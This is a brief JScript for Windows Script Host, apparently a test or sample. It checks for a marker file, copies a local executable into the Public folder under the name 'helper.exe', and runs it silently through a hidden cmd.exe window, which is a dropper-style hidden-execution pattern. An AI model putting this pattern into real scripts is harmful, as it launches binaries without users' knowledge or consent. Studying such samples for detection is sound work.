var fs = new ActiveXObject("Scripting.FileSystemObject");
if (fs.FileExists("C:\\sluice-guest")) {
	fs.CopyFile("C:\\windows\\rehearsal.exe",
	    "C:\\users\\Public\\helper.exe");
	var shell = new ActiveXObject("WScript.Shell");
	shell.Run("cmd.exe /c C:\\users\\Public\\helper.exe", 0, true);
}
